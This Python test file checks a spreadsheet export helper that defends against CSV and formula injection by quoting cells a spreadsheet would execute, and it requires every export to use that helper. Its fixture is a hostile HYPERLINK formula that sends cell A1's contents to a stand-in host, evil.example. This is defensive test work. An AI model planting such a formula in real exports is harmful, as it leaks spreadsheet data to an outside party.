import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from carnet.lib.spreadsheets import csv_text, read_cell, safe_cell, xlsx_bytes

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+33 1 23", "'+33 1 23"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Caritas Albania", "Caritas Albania"),
        ("a=1", "a=1"),
        (None, ""),
        (-3, -3),
        (2.5, 2.5),
        (True, "True"),
    ],
)
def test_safe_cell_quotes_text_a_spreadsheet_would_run(value, cell):
    assert safe_cell(value) == cell


def test_read_cell_gives_back_what_safe_cell_was_given():
    for text in (HOSTILE, "-2", "'quoted", "plain"):
        assert read_cell(safe_cell(text)) == text


def test_csv_text_neutralises_every_cell_of_every_row():
    assert csv_text([["name", "n"], [HOSTILE, 3]]) == (
        'name,n\r\n"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")",3\r\n'
    )


def test_xlsx_bytes_never_stores_a_formula_cell():
    sheet = load_workbook(io.BytesIO(xlsx_bytes([["name"], [HOSTILE], ["=1+1"]], title="t"))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [(c.value, c.data_type) for c in cells] == [
        ("name", "s"),
        ("'" + HOSTILE, "s"),
        ("'=1+1", "s"),
    ]


WRITERS = re.compile(r"csv\.writer|csv\.DictWriter|import openpyxl|from openpyxl|Workbook\(")


def test_no_module_writes_a_spreadsheet_without_the_cell_helper():
    """A new CSV or XLSX export must go through carnet/lib/spreadsheets.py."""
    root = Path(__file__).resolve().parents[2] / "carnet"
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "spreadsheets.py" and WRITERS.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
